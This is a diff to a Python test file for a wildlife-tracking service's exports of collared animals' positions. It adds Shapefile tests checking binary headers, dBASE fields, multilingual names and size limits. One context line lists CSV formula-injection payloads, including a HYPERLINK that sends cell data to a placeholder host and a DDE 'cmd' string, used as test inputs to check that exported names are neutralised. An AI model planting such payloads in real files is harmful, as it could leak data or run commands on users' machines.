@@ -1,13 +1,16 @@
 """An animal's movement summaries and downloads: home range in metres (minimum convex polygon and
 kernel density), speed, day and night by the collar's night, and its fixes as CSV, GeoJSON,
-GeoPackage and Movebank CSV read back the way those formats' own readers read them."""
+GeoPackage, zipped Shapefile and Movebank CSV read back the way those formats' own readers read them."""
 
 from __future__ import annotations
 
 import csv
 import io
 import json
+import re
+import struct
 import tempfile
+import zipfile
 from dataclasses import replace
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
@@ -17,13 +20,14 @@ import numpy as np
 import pandas as pd
 import pyogrio
 import pytest
+from pyproj import CRS
 from shapely.geometry import Point, shape
 
 from collar_firmware.risk import is_night
 from lora_bridge import exports
 from lora_bridge.access import Viewer
 from lora_bridge.domain import home_range
-from lora_bridge.errors import Forbidden
+from lora_bridge.errors import ExportTooLarge, Forbidden, InvalidRequest
 from lora_bridge.views import ActivityView, PositionView
 
 T0 = datetime(2026, 11, 20, 0, 0, tzinfo=UTC)
@@ -240,7 +244,8 @@ def test_the_animal_pages_files_carry_the_species_and_say_whether_the_points_are
     researcher = Viewer("rose", "researcher")
     files = {f.label: f for f in exports.files(square_walk(), "Loxodonta africana", researcher, "Amani_7d")}
     assert [f.filename for f in files.values()] == ["Amani_7d.csv", "Amani_7d.geojson", "Amani_7d.gpkg",
-                                                    "Amani_7d_movebank.csv"]
+                                                    "Amani_7d.shp.zip", "Amani_7d_movebank.csv"]
+    assert files["Shapefile"].media_type == "application/zip"
     rows = list(csv.DictReader(io.StringIO(files["CSV"].data.decode())))
     assert {r["species"] for r in rows} == {"Loxodonta africana"}
     collection = json.loads(files["GeoJSON"].data)
@@ -250,6 +255,11 @@ def test_the_animal_pages_files_carry_the_species_and_say_whether_the_points_are
         path = Path(folder) / "amani.gpkg"
         path.write_bytes(files["GeoPackage"].data)
         assert set(gpd.read_file(path)["species"]) == {"Loxodonta africana"}
+        shapefile = Path(folder) / "Amani_7d.shp.zip"
+        shapefile.write_bytes(files["Shapefile"].data)
+        assert set(gpd.read_file(shapefile)["species"]) == {"Loxodonta africana"}
+    with zipfile.ZipFile(io.BytesIO(files["Shapefile"].data)) as archive:
+        assert "Positions: coarse" in archive.read("README.txt").decode()
     movebank = list(csv.DictReader(io.StringIO(files["Movebank CSV"].data.decode())))
     assert {r["individual-taxon-canonical-name"] for r in movebank} == {"Loxodonta africana"}
 
@@ -259,7 +269,7 @@ def test_neither_the_visitor_kiosk_nor_a_field_technician_gets_files_of_the_fixe
         with pytest.raises(Forbidden):
             exports.files(square_walk(), "Loxodonta africana", who, "Amani_7d")
     assert [f.label for f in exports.files(square_walk(), None, Viewer("amina", "ranger"), "Amani_7d")] == [
-        "CSV", "GeoJSON", "GeoPackage", "Movebank CSV"]
+        "CSV", "GeoJSON", "GeoPackage", "Shapefile", "Movebank CSV"]
 
 
 FORMULA_NAMES = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Amani\")", "+254 herd", "-Amani", "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -301,3 +311,140 @@ def test_a_researcher_opening_the_csv_in_a_spreadsheet_sees_names_that_look_like
     assert len(movebank) == len(frame) == len(fixes), "a name holding a carriage return keeps its row whole"
     assert set(movebank["individual-taxon-canonical-name"]) == {"-Loxodonta africana", "Loxodonta africana"}
     assert movebank["location-long"].dtype == "float64" and (movebank["location-long"] < 0).all()
+
+
+# The ESRI Shapefile Technical Description (July 1998): the .shp and .shx open on a 100-byte header whose file
+# code 9994 and file length (in 16-bit words) are big-endian, whose version 1000 and shape type (1: Point) are
+# little-endian. The .dbf is a dBASE table: a 32-byte header (the record count at byte 4, the header's and a
+# record's length at bytes 8 and 10), then one 32-byte descriptor a field (its name in 11 NUL-padded bytes, its
+# type at byte 11, its width at 16, its decimals at 17) up to a 0x0D terminator.
+SHP_FILE_CODE, SHP_VERSION, SHP_POINT = 9994, 1000, 1
+
+
+def shp_header(data: bytes) -> dict[str, int]:
+    """The fields of a .shp or .shx header, read as the Technical Description lays them out."""
+    (code,) = struct.unpack(">i", data[0:4])
+    (length_words,) = struct.unpack(">i", data[24:28])
+    version, shape_type = struct.unpack("<ii", data[28:36])
+    return {"code": code, "bytes": 2 * length_words, "version": version, "shape_type": shape_type}
+
+
+def dbf_fields(data: bytes) -> list[tuple[str, str, int, int]]:
+    """(name, type, width, decimals) of each field of a dBASE table."""
+    fields, at = [], 32
+    while data[at] != 0x0D:
+        name = data[at:at + 11].split(b"\0")[0].decode("ascii")
+        fields.append((name, chr(data[at + 11]), data[at + 16], data[at + 17]))
+        at += 32
+    return fields
+
+
+def unzipped(data: bytes, folder: Path) -> dict[str, bytes]:
+    """The zip's files by name, also written out to `folder` as a GIS user unpacks them."""
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        archive.extractall(folder)
+        return {name: archive.read(name) for name in archive.namelist()}
+
+
+def test_park_gis_staff_open_the_zipped_shapefile_and_find_each_fix_a_point_in_wgs84(tmp_path):
+    fixes = [replace(f, time=f.time + timedelta(milliseconds=250)) for f in square_walk()]
+    data = exports.to_shapefile(fixes, "Loxodonta africana", "exact", "Amani_7d")
+    (tmp_path / "Amani_7d.shp.zip").write_bytes(data)
+    parts = unzipped(data, tmp_path / "unpacked")
+
+    # QGIS and ArcGIS open the zip as it is (GDAL reads a .shp.zip), and the files unpacked.
+    assert sorted(parts) == ["Amani_7d.cpg", "Amani_7d.dbf", "Amani_7d.prj", "Amani_7d.shp", "Amani_7d.shx",
+                             "README.txt"]
+    frame = gpd.read_file(tmp_path / "Amani_7d.shp.zip")
+    assert frame.equals(gpd.read_file(tmp_path / "unpacked" / "Amani_7d.shp"))
+    assert frame.crs.to_epsg() == 4326 and set(frame.geom_type) == {"Point"}
+    assert [(p.x, p.y) for p in frame.geometry] == [(f.lon, f.lat) for f in fixes]
+    assert frame["time_utc"].tolist() == [exports.utc_millis(f.time) for f in fixes]
+    assert pd.to_datetime(frame["time_utc"], utc=True, format="ISO8601").tolist() == [f.time for f in fixes]
+    assert frame["lat"].tolist() == pytest.approx([f.lat for f in fixes], abs=1e-15), "N(24,15): 15 decimals"
+    assert set(frame["species"]) == {"Loxodonta africana"}
+
+    # The parts as the Technical Description lays them out: one point record of 28 bytes a fix in the .shp,
+    # one index record of 8 bytes a fix in the .shx.
+    shp, shx = shp_header(parts["Amani_7d.shp"]), shp_header(parts["Amani_7d.shx"])
+    assert (shp["code"], shp["version"], shp["shape_type"]) == (SHP_FILE_CODE, SHP_VERSION, SHP_POINT)
+    assert (shx["code"], shx["version"], shx["shape_type"]) == (SHP_FILE_CODE, SHP_VERSION, SHP_POINT)
+    assert shp["bytes"] == len(parts["Amani_7d.shp"]) == 100 + 28 * len(fixes)
+    assert shx["bytes"] == len(parts["Amani_7d.shx"]) == 100 + 8 * len(fixes)
+    assert struct.unpack("<4d", parts["Amani_7d.shp"][36:68]) == (36.9, 0.3, 36.9 + 2 * KM_LON, 0.3 + 2 * KM_LAT)
+    # The .prj: WGS 84 in ESRI's WKT; the .cpg: the .dbf's text is UTF-8.
+    prj = parts["Amani_7d.prj"].decode()
+    assert prj.startswith('GEOGCS["GCS_WGS_1984"') and CRS.from_wkt(prj).to_epsg() == 4326
+    assert parts["Amani_7d.cpg"].decode().strip() == "UTF-8"
+    # The .dbf: dBASE III, field names of at most 10 characters, the time as text, the degrees as N(24,15).
+    dbf = parts["Amani_7d.dbf"]
+    fields = {name: (kind, width, decimals) for name, kind, width, decimals in dbf_fields(dbf)}
+    assert dbf[0] == 3 and struct.unpack("<I", dbf[4:8])[0] == len(fixes)
+    assert list(fields) == list(exports.COLUMNS) and all(len(name) <= 10 for name in fields)
+    assert fields["time_utc"] == ("C", 24, 0) and fields["lat"] == fields["lon"] == ("N", 24, 15)
+
+    # The README names each field's full column and says what the points are.
+    readme = parts["README.txt"].decode()
+    assert "Positions: exact" in readme and "WGS 84 (EPSG:4326)" in readme and "fixes: 5, animals: 1" in readme
+    assert "time_utc    time_utc    text, ISO 8601 in UTC" in readme
+
+
+def test_an_animal_named_in_amharic_keeps_its_name_in_the_shapefile_and_a_name_too_long_for_a_dbf_is_cut_whole(
+        tmp_path):
+    # A dBASE text field holds 254 bytes; an animal's name may be 128 characters, 384 bytes in Ge'ez script (3 bytes
+    # a character in UTF-8). GDAL would cut it inside a character; Tembo cuts it at one and says so.
+    walk = square_walk()
+    long_name = "ሰ" * 128
+    fixes = [replace(walk[0], name="Ñyota ንጉሥ"), replace(walk[1], animal_id="2", name=long_name, position_id=50)]
+    data = exports.to_shapefile(fixes, {"1": "Loxodonta africana", "2": "Ceratotherium simum"}, "exact", "herd")
+    (tmp_path / "herd.shp.zip").write_bytes(data)
+
+    frame = gpd.read_file(tmp_path / "herd.shp.zip")
+    assert pyogrio.read_info(tmp_path / "herd.shp.zip")["encoding"] == "UTF-8"
+    assert frame["name"].tolist() == ["Ñyota ንጉሥ", "ሰ" * 84], "84 characters of 3 bytes fill 252 of the 254"
+    readme = unzipped(data, tmp_path / "unpacked")["README.txt"].decode()
+    assert f"name: {long_name}" in readme, "the README carries the name whole"
+    assert "Ñyota" not in readme, "only the cut names are listed"
+
+
+def test_a_researchers_empty_shapefile_of_the_last_hours_is_an_empty_point_layer_that_says_so(tmp_path):
+    # A role 6 h late asks for the last 3 hours: no fix, but a Shapefile a GIS opens like any other.
+    data = exports.to_shapefile([], None, "coarse", "positions")
+    (tmp_path / "positions.shp.zip").write_bytes(data)
+    parts = unzipped(data, tmp_path / "unpacked")
+
+    info = pyogrio.read_info(tmp_path / "positions.shp.zip")
+    assert (info["geometry_type"], info["crs"], info["features"]) == ("Point", "EPSG:4326", 0)
+    assert list(info["fields"]) == list(exports.COLUMNS)
+    assert shp_header(parts["positions.shp"])["shape_type"] == SHP_POINT
+    assert len(gpd.read_file(tmp_path / "positions.shp.zip")) == 0
+    readme = parts["README.txt"].decode()
+    assert "fixes: 0, animals: 0 (no fix in the time asked for: an empty layer)" in readme
+    assert "Positions: coarse" in readme
+
+
+def test_a_shapefile_past_the_formats_2_gb_a_file_is_refused_before_it_is_written(tmp_path):
+    # The sizes Tembo foresees are the ones GDAL writes, so it refuses a too large export before writing it.
+    fixes = square_walk() + [replace(f, animal_id="2", name="Ñyota ንጉሥ", position_id=f.position_id + 100)
+                             for f in square_walk()]
+    frame = exports.fixes_frame(fixes, "Loxodonta africana")
+    parts = unzipped(exports.to_shapefile(fixes, "Loxodonta africana"), tmp_path)
+    assert exports.shapefile_part_bytes(frame) == {part: len(parts[f"fixes{part}"]) for part in (".shp", ".shx", ".dbf")}
+    assert exports.SHAPEFILE_PART_MAX_BYTES == 2**31 - 1
+
+    dbf_bytes = exports.shapefile_part_bytes(frame)[".dbf"]
+    with pytest.raises(ExportTooLarge, match=r"10 fixes .*its \.dbf .*export fewer days .*GeoPackage"):
+        exports.to_shapefile(fixes, "Loxodonta africana", max_part_bytes=dbf_bytes - 1)
+    assert exports.to_shapefile(fixes, "Loxodonta africana", max_part_bytes=dbf_bytes)
+    assert issubclass(ExportTooLarge, InvalidRequest), "the API answers 400 with the reason"
+
+
+def test_long_column_names_become_distinct_readable_shapefile_fields_of_ten_characters():
+    fields = exports.shapefile_field_names(exports.MOVEBANK_COLUMNS)
+    assert all(len(name) <= 10 and re.fullmatch(r"[0-9A-Za-z_]+", name) for name in fields.values())
+    assert len({name.lower() for name in fields.values()}) == len(fields), "dBASE ignores case"
+    assert fields["location-long"] == "location_l" and fields["location-lat"] == "location_2"
+    assert fields["individual-taxon-canonical-name"] == "individual"
+    assert fields["individual-local-identifier"] == "individu_2"
+    assert exports.shapefile_field_names(exports.MOVEBANK_COLUMNS) == fields, "the same names every time"
+    assert exports.shapefile_field_names(exports.COLUMNS) == {c: c for c in exports.COLUMNS}
